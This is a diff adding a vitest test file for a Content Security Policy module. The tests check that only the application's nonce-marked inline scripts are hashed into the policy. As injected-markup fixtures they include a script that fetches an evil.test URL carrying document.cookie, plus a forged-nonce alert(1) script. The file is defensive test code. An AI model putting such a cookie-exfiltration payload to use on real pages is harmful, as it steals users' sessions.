@@ -1,0 +1,40 @@
+import { createHash } from "node:crypto";
+import { describe, expect, it } from "vitest";
+import { appScriptMark, contentSecurityPolicy, hashAppScripts } from "./csp.server";
+
+const sha = (text: string) => createHash("sha256").update(text, "utf8").digest("base64");
+
+describe("the page's script policy", () => {
+  it("allows the application's inline scripts and not one that reached the page otherwise", () => {
+    const mark = appScriptMark();
+    const html = [
+      `<html><head><script nonce="${mark}">window.__ctx = {};</script></head><body>`,
+      // Text that came from data and slipped through as markup: not the application's.
+      `<p>Recenzie</p><script>fetch("https://evil.test/?" + document.cookie)</script>`,
+      // A guess at the mark does not make it the application's either.
+      `<script nonce="aGFja2Vy">alert(1)</script>`,
+      `<script type="application/ld+json">{"@type":"Book"}</script>`,
+      `<script nonce="${mark}" type="module">import "/assets/entry.js";</script>`,
+      "</body></html>",
+    ].join("");
+    const { html: page, hashes } = hashAppScripts(html, mark);
+    expect(hashes.sort()).toEqual(
+      [sha("window.__ctx = {};"), sha('import "/assets/entry.js";')].sort(),
+    );
+    const policy = contentSecurityPolicy({ scriptHashes: hashes });
+    expect(policy).not.toContain(sha('fetch("https://evil.test/?" + document.cookie)'));
+    expect(policy).not.toContain(sha("alert(1)"));
+    expect(policy).not.toContain("'unsafe-inline'");
+    // The mark is taken off: the same page is the same bytes from render to render.
+    expect(page).not.toContain(mark);
+    expect(page).toContain('<script type="module">import');
+  });
+
+  it("is random per render", () => {
+    expect(appScriptMark()).not.toBe(appScriptMark());
+  });
+
+  it("allows no inline style in production", () => {
+    expect(contentSecurityPolicy({})).toMatch(/style-src 'self';/);
+  });
+});
